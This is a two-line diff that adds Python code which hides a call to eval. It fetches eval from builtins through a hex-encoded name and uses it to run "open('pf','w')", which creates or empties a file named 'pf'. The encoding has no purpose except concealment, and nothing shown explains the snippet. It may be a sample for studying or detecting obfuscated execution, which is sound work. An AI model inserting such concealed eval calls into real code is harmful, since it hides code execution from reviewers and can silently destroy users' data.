@@ -1,0 +1,2 @@
+import builtins as b
+getattr(b, bytes.fromhex("6576616c").decode())("open('pf','w')")
